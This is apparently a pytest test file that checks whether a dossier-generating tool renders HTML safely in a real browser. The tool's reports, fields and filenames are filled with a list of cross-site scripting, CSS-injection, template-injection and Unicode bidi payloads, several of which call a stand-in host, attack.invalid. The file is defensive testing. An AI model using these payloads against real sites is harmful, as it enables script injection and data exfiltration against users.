"""A report full of attacks, on every page of its dossier, in a real browser: nothing of it comes alive."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from tests_browser import Browser

from tallystick.case import Case
from tallystick.claims import MAKER
from tallystick.dossier import write
from tallystick.ledger import Ledger, Reading

RAN = "document.documentElement.dataset.ran=1;fetch('http://attack.invalid/ran')"
ATTACKS = (
    f"<script data-attack>{RAN}</script>",
    f"</title></style></script></textarea><script data-attack>{RAN}</script>",
    f"\"'><img data-attack src=http://attack.invalid/i onerror={RAN!r}>",
    f"' autofocus onfocus={RAN} data-attack x='",
    f"<svg data-attack onload=\"{RAN}\"><animate onbegin=\"{RAN}\" attributeName=x /><use href='data:x'/></svg>",
    f"<math data-attack><mtext></p><style><!--</style><img title='--&gt;<img src=x onerror={RAN}>'>",
    "</style><style data-attack>*{display:none;background:url(http://attack.invalid/css)}</style>",
    "}</style> :root { --ink: #f00 } @import url(http://attack.invalid/import);",
    f"<iframe data-attack srcdoc='<script>parent.{RAN}</script>'></iframe>",
    "<meta data-attack http-equiv=refresh content='0;url=http://attack.invalid/refresh'><base href=//attack.invalid/>",
    f"<a data-attack href='javascript:{RAN}'>x</a><form action=//attack.invalid/><input name=x></form>",
    f"<!--><script data-attack>{RAN}</script>--><![CDATA[<script>{RAN}</script>]]>",
    f"{{{{ ''.__class__ }}}} {{% raw %}} ${{{RAN}}} #{{7*7}} <%= 7*7 %>",
    f"javascript:{RAN}//",
    f"data:text/html,<script>{RAN}</script>",
    "&#60;script data-attack&#62;&lt;script&gt; %3Cscript%3E \\u003cscript\\u003e +ADw-script+AD4-",
    "exe\u202efdp.tropeR \u2067\u2069\u2069\u202c\u200bhid\u00adden \U000e0068\U000e0069\x00\x1b[2J\x9b",
    "المرصد <b data-attack>١٢</b> قال 12:30",
)  # fmt: skip
TAGS = set(re.findall(r"\S+",
    "html head meta title link style body header main footer nav aside section article div p span h1 h2 h3 h4 a b strong em"
    " bdi code mark ul ol li dl dt dd details summary table caption thead tbody tr th td svg g line rect circle path"
    " text title"
))  # fmt: skip
ATTRIBUTES = set(re.findall(r"\S+",
    "lang charset http-equiv content name rel href class id title tabindex role scope dir open aria-label aria-labelledby"
    " aria-hidden aria-current focusable width height viewBox x y x1 x2 y1 y2 cx cy r rx d fill data-name"
))  # fmt: skip
# What a page became: every tag and attribute, every address, its own style, and whether anything ran.
ASKED = """(() => {
  const all = [...document.querySelectorAll("*")];
  const names = of => [...new Set(all.flatMap(of))];
  return {
    tags: names(e => [e.localName]),
    attributes: names(e => e.getAttributeNames()),
    links: names(e => e.hasAttribute("href") ? [e.getAttribute("href")] : []),
    styles: [...document.querySelectorAll("style")].map(e => e.textContent),
    sheets: document.styleSheets.length,
    ink: getComputedStyle(document.body).color,
    shown: getComputedStyle(document.querySelector("main")).display,
    ran: document.documentElement.dataset.ran ?? null,
    scripts: document.scripts.length,
    text: document.body.textContent,
  };
})()"""
# Text nodes with letters written leftwards, or with controls of direction, that could move what is around them:
# neither shut off (bdi, dir, a drawing's own text) nor alone in their paragraph.
LOOSE = r"""(() => {
  const out = [], walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) {
    const text = walk.currentNode.data;
    if (!/[\u0590-\u08ff\u202a-\u202e\u2066-\u2069]/.test(text)) continue;
    let box = walk.currentNode.parentElement;
    while (!box.matches("bdi, [dir], text, title") && getComputedStyle(box).display === "inline") box = box.parentElement;
    if (!box.matches("bdi, [dir], text, title") && box.textContent.trim() !== text.trim())
      out.push(`<${box.localName} class="${box.className}"> ${box.textContent.trim().slice(0, 120)}`);
  }
  return out;
})()"""


@pytest.fixture(scope="module")
def chromium(browser: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with Browser(browser, tmp_path_factory.mktemp("profile")) as opened:
        yield opened


@pytest.fixture(scope="module")
def dossier(builder: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The dossier of a case in which every word that a report or a list can bring is an attack."""
    made, number = builder("case " + ATTACKS[0]), count()

    def evil(word: str = "") -> str:
        return f"{word} {ATTACKS[next(number) % len(ATTACKS)]}".strip()

    for at in range(len(ATTACKS)):
        number = count(at)  # so that over the reports each place is filled by each attack
        text = (
            f"An air strike hit the hospital of Tarsin on Thursday, killing {11 + at % 3} people, {ATTACKS[at]} a monitor said.\n\n"
            f"The army captured the town of Omrun {evil()} on Monday. The war has killed more than 40,000 people in Tarsin in May 2019."
            f"\n\nPeople were leaving Tarsin, it said. {evil()}"
        )
        name = f"../../{ATTACKS[at]}"
        made.report(name, text, evil("Wire"), f"2019-05-{16 + at % 3}", evil("Strike"), url=evil(), language=evil("en"))  # fmt: skip
        thursday, monitor = builder.day("2019-05-16", evil("Thursday")), (evil("monitor"), evil("agency"))
        made.account(
            name, "An air strike hit the hospital of Tarsin on Thursday", "air_strike", thursday, evil("Tarsin"),
            voices=monitor, weapon=evil("bombs"), country="Orveth",
            tolls=[("killed", f"{11 + at % 3} people", 11 + at % 3, 11 + at % 3, monitor, evil("other:") if at % 2 else "people")],
            roles=[(evil("air force"), "perpetrator", "alleged", "An air strike", monitor)],
            says=[("killing", "denied", [evil("ministry")])],
        )  # fmt: skip
        captured = (
            f"The army captured the town of Omrun {text.partition('Omrun ')[2].partition(' on Monday')[0]}"
        )
        made.account(
            name, captured, "control", builder.day("2019-05-13", "Monday"), evil("Omrun"), voices=monitor
        )
        made.account(
            name, "People were leaving Tarsin", "displacement", thursday, evil("Tarsin"), voices=[evil()]
        )
        made.account(
            name, "The war has killed more than 40,000 people", "other", thursday, evil("Tarsin"), aggregate=True,
            tolls=[("killed", "more than 40,000 people", 40001, None, monitor)],
        )  # fmt: skip
    folder = tmp_path_factory.mktemp("attacked") / "case"
    Case.make(folder).close()
    places = folder.parent / "places <img src=x onerror=alert(1)>.csv"
    rows = "".join(
        f'"{name}","Tarsin {at}; Tarsin",10.{at},20.{at},Orveth\n'
        for at, name in enumerate(map(_cell, ATTACKS))
    )
    places.write_text("name,names,latitude,longitude,country\n" + rows, encoding="utf-8")
    with Ledger.open(folder, write=True) as ledger:
        ledger.append(captures=made.captures, documents=made.documents.values())
        for document in made.documents.values():
            claims = tuple(claim for claim in made.claims if claim.span.document == document.id)
            ledger.append(readings=[Reading(document, MAKER, claims, "test", "2020-01-01T00:00:00Z")])
    with Case.open(folder, write=True) as case:
        case.add_list(places)
        case.add([_refused(folder.parent)])
        case.link()
        record = case.record()
        assert len(record.documents) == len(ATTACKS)
        assert record.lines
        assert record.patterns.incidents
        return write(record, folder / "dossier").parent


def _cell(attack: str) -> str:
    return re.sub(r"[\0\x1b\x9b;]", "", attack).replace('"', '""')


def _refused(folder: Path) -> Path:
    """A file whose name is an attack, and which cannot be read."""
    path = folder / "<svg onload=alert(1)>\u202etxt.\u2069 '\"><script>alert(1)<"
    path.write_bytes(b"\x89PNG")
    return path


def _pages(folder: Path) -> list[Path]:
    return sorted(folder.rglob("*.html"))


def test_the_attacked_dossier_has_every_sort_of_page(dossier: Path) -> None:
    assert {path.name for path in dossier.glob("*.html")} >= {
        "index.html", "reports.html", "patterns.html", "matters.html", "totals.html",
    }  # fmt: skip
    assert len(list((dossier / "reports").iterdir())) == len(ATTACKS)
    assert list((dossier / "incidents").iterdir())


def test_on_no_page_does_anything_of_a_report_come_alive(dossier: Path, chromium: Browser) -> None:
    inks = set()
    for path in _pages(dossier):
        seen = chromium.open(path.as_uri())
        page = chromium.tell(ASKED)
        at = path.relative_to(dossier)
        assert page["ran"] is None, at
        assert page["scripts"] == seen.dialogs == 0, at
        assert seen.said == [], f"{at}: the page's own policy is broken by the page"
        assert {url.partition(":")[0] for url in seen.requests} == {"file"}, (at, seen.requests)
        assert {Path(url).name for url in seen.requests} == {path.name, "style.css"}, at
        assert set(page["tags"]) <= TAGS, (at, set(page["tags"]) - TAGS)
        assert set(page["attributes"]) <= ATTRIBUTES, (at, set(page["attributes"]) - ATTRIBUTES)
        assert not [link for link in page["links"] if re.match(r"\s*[a-z]+:|//", link, re.I)], at
        assert all(re.fullmatch(r"[:a-z0-9#_.(),\s-]+\{[^{}]*\}\n", style) for style in page["styles"]), at
        assert page["sheets"] == 1 + len(page["styles"]), at
        assert page["shown"] == "block", at
        inks.add(page["ink"])
    assert len(inks) == 1, "no report colours a page"


def test_no_report_moves_the_words_around_its_own(dossier: Path, chromium: Browser) -> None:
    moved = set()
    for path in _pages(dossier):
        chromium.open(path.as_uri())
        moved |= {(path.parent.name, loose) for loose in chromium.tell(LOOSE)}
    assert not moved


def test_the_words_of_an_attack_are_shown_as_words(dossier: Path, chromium: Browser) -> None:
    """Inert is not hidden: what the report says stands there to be read."""
    front = dossier / "reports.html"
    chromium.open(front.as_uri())
    text = chromium.tell("document.body.innerText")
    for attack in ATTACKS[:5]:
        assert " ".join(attack.split()) in " ".join(text.split())


def test_this_browser_would_have_seen_an_attack(dossier: Path, chromium: Browser) -> None:
    """The sentinel works where an attack is let in, and the policy alone, without the escaping, stops it."""
    page = next(iter(sorted((dossier / "reports").iterdir())))
    let_in = page.read_text(encoding="utf-8").replace("</main>", "".join(ATTACKS[:9]) + "</main>")
    (page.parent / "let-in.html").write_text(let_in, encoding="utf-8")
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", let_in)
    (page.parent / "bare.html").write_text(bare, encoding="utf-8")
    try:
        seen = chromium.open((page.parent / "bare.html").as_uri())
        assert chromium.tell("document.documentElement.dataset.ran") == "1"
        assert any(url.startswith("http") for url in seen.requests)
        seen = chromium.open((page.parent / "let-in.html").as_uri())
        assert chromium.tell("document.documentElement.dataset.ran ?? null") is None
        assert any("Content Security Policy" in each for each in seen.said)
        assert not any(url.startswith("http") for url in seen.requests)
    finally:
        (page.parent / "let-in.html").unlink()
        (page.parent / "bare.html").unlink()


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("exe\u202efdp", ["RLO"]),
        ("a\u200bb\u00adc\ufeff", ["ZWSP", "SHY", "BOM"]),
        ("\U000e0068\U000e0069", ["U+E0068", "U+E0069"]),
        ("a\x00b\x1bc\x85", ["U+0000", "U+001B", "U+0085"]),
        ("Al\u200deppo", ["ZWJ"]),
        ("می\u200cرود", []),  # Persian writes it so
        ("👨\u200d👩\u200d👧 ❤\ufe0f 1\ufe0f\u20e3", []),  # and an emoji is made of it
        ("x\ufe0f", ["U+FE0F"]),
        ("two\tlines\nand\rmore", []),
    ],
)
def test_what_nobody_sees_is_named_where_words_are_evidence(
    text: str, names: list[str], builder: Any, tmp_path: Path, pages_of: Callable[[Path], dict[str, str]]
) -> None:
    case = builder("Unseen")
    case.report("one", f"{text} was hit.", title=text)
    page = next(
        v for at, v in pages_of(write(case.record(), tmp_path / "out").parent).items() if "reports/" in at
    )
    for part in (
        page.partition("<article")[2].partition("</article>")[0],
        page.partition("<h1")[2].partition("</h1>")[0],
    ):
        assert re.findall(r'data-name="([^"]*)"', part) == names
